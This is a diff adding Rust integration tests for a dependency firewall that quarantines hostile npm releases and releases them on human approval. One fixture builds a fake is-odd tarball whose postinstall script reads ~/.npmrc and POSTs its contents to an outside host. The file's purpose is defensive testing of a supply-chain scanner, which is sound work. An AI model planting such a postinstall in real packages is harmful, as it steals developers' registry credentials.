@@ -1,0 +1,195 @@
+//! The content rules through the real pipeline: a hostile npm release whose digest is
+//! genuine (the registry publishes the payload's own sha512) is refused at the artifact
+//! gate with the file and the rule, held in the quarantine queue, hidden from metadata
+//! afterwards, and served once a person approves it.
+
+use std::io::Write as _;
+use std::sync::Arc;
+
+use axum::http::StatusCode;
+use depfw::config::Config;
+use depfw::diag::Code;
+use depfw::policy::content::{ContentConfig, ContentLedger, ContentRules};
+use depfw::policy::Policy;
+use depfw::server::{AppState, PolicyState};
+use depfw::store::content::ContentStore;
+use depfw::store::overrides::OverrideStore;
+use depfw::store::quarantine::{ApprovalScope, QuarantineStatus};
+use depfw::store::Store;
+
+use super::router::{body, get, json};
+use crate::support::registry::{self, TestCheck};
+
+fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut tar = tar::Builder::new(Vec::new());
+    for (path, bytes) in files {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o644);
+        tar.append_data(&mut header, path, *bytes).unwrap();
+    }
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(&tar.into_inner().unwrap()).unwrap();
+    gz.finish().unwrap()
+}
+
+/// nx 21.5.0's shape on is-odd 3.0.1: a postinstall running a file that reads `~/.npmrc`
+/// and posts it.
+fn nx_like() -> Vec<u8> {
+    tgz(&[
+        (
+            "package/package.json",
+            br#"{"name":"is-odd","version":"3.0.1","scripts":{"postinstall":"node telemetry.js"}}"#,
+        ),
+        (
+            "package/telemetry.js",
+            b"const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://api.github.com/user/repos', {method: 'POST', body: t});\n",
+        ),
+        ("package/index.js", b"module.exports = n => n % 2 === 1;\n"),
+    ])
+}
+
+/// The test policy (no other findings) with the content rules, their ledger read from
+/// `store` and its overrides (what `engine::build` does).
+fn content_policy(store: &Store, revision: &str) -> PolicyState {
+    let overrides = OverrideStore::new(store)
+        .unwrap()
+        .merged_with(&Default::default(), chrono::Utc::now())
+        .unwrap();
+    let held = ContentStore::new(store).unwrap().held().unwrap();
+    let check = Arc::new(TestCheck::default());
+    let policy = Policy::new(vec![check], Arc::new(overrides), revision.to_owned()).with_content(
+        Arc::new(ContentRules {
+            cfg: ContentConfig::default(),
+            ledger: ContentLedger::new(held),
+        }),
+    );
+    PolicyState::Ready(policy)
+}
+
+async fn setup() -> (
+    AppState,
+    Store,
+    Arc<registry::FixtureState>,
+    tempfile::TempDir,
+) {
+    let (upstream, fixture) = registry::start_fixture().await;
+    let dir = tempfile::tempdir().unwrap();
+    let config: Config = registry::config(&upstream, "http://depfw.test", dir.path(), "");
+    let store = Store::open(dir.path()).unwrap();
+    let state = AppState::new(&config, &store, content_policy(&store, "r1")).unwrap();
+    (state, store, fixture, dir)
+}
+
+#[tokio::test]
+async fn a_hostile_postinstall_is_refused_naming_the_file_and_rule_then_held_and_hidden() {
+    let (state, store, fixture, _dir) = setup().await;
+    fixture
+        .replaced
+        .lock()
+        .unwrap()
+        .insert("is-odd-3.0.1.tgz".to_owned(), nx_like());
+
+    // The packument is rendered before anyone downloads 3.0.1: it is listed.
+    let doc = json(get(&state, "/npm/is-odd").await).await;
+    assert!(doc["versions"].get("3.0.1").is_some());
+
+    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
+    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
+    let err = json(resp).await["error"].as_str().unwrap().to_owned();
+    assert!(
+        err.starts_with(
+            "depfw: is-odd@3.0.1 is quarantined, awaiting approval: script-credential-access: package/telemetry.js: "
+        ),
+        "{err}"
+    );
+    assert!(err.contains(".npmrc"), "{err}");
+
+    // The refusal is in the decision log and the quarantine queue.
+    let held = state
+        .quarantine()
+        .list(Some(QuarantineStatus::Pending))
+        .unwrap();
+    assert_eq!(held.len(), 1);
+    assert_eq!(
+        (held[0].name.as_str(), held[0].version.as_str()),
+        ("is-odd", "3.0.1")
+    );
+    assert_eq!(held[0].reasons[0].code, Code::ScriptCredentialAccess);
+    let last = state
+        .decisions()
+        .query(&Default::default(), 1)
+        .unwrap()
+        .pop()
+        .unwrap();
+    assert_eq!(
+        (last.outcome.as_str(), last.version.as_deref()),
+        ("refused", Some("3.0.1"))
+    );
+
+    // Metadata hides the version from now on; the latest is 3.0.0.
+    let doc = json(get(&state, "/npm/is-odd").await).await;
+    assert!(doc["versions"].get("3.0.1").is_none(), "{doc}");
+    assert_eq!(doc["dist-tags"]["latest"], "3.0.0");
+
+    // A clean release of the same package is served.
+    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.0.tgz").await;
+    assert_eq!(resp.status(), StatusCode::OK);
+
+    // A person approves it: the allow entry wins over the content rule, in metadata and at
+    // the gate, and the policy rebuilt from the store keeps the hold otherwise.
+    state
+        .quarantine()
+        .approve(
+            held[0].id,
+            &ApprovalScope::ThisVersion,
+            "read telemetry.js: test fixture",
+            None,
+            "admin",
+            chrono::Utc::now(),
+        )
+        .unwrap();
+    state.set_policy(content_policy(&store, "r2"));
+    let doc = json(get(&state, "/npm/is-odd").await).await;
+    assert!(doc["versions"].get("3.0.1").is_some());
+    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
+    assert_eq!(resp.status(), StatusCode::OK);
+    assert_eq!(body(resp).await, nx_like());
+}
+
+#[tokio::test]
+async fn the_hold_survives_a_restart_through_the_store() {
+    let (state, store, fixture, _dir) = setup().await;
+    fixture
+        .replaced
+        .lock()
+        .unwrap()
+        .insert("is-odd-3.0.1.tgz".to_owned(), nx_like());
+    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
+    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
+    // A policy built afresh from the store (a restart, an admin change) holds it before
+    // anything is downloaded.
+    state.set_policy(content_policy(&store, "r2"));
+    let before = fixture.hits("/is-odd/-/is-odd-3.0.1.tgz");
+    let resp = get(&state, "/npm/is-odd/-/is-odd-3.0.1.tgz").await;
+    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
+    assert_eq!(
+        fixture.hits("/is-odd/-/is-odd-3.0.1.tgz"),
+        before,
+        "not fetched again"
+    );
+}
+
+#[tokio::test]
+async fn ordinary_tarballs_pass_the_content_rules() {
+    let (state, _store, _fixture, _dir) = setup().await;
+    for path in [
+        "/npm/is-odd/-/is-odd-3.0.1.tgz",
+        "/npm/ms/-/ms-2.1.3.tgz",
+        "/npm/is-number/-/is-number-7.0.0.tgz",
+    ] {
+        let resp = get(&state, path).await;
+        assert_eq!(resp.status(), StatusCode::OK, "{path}");
+    }
+    assert!(state.quarantine().list(None).unwrap().is_empty());
+}
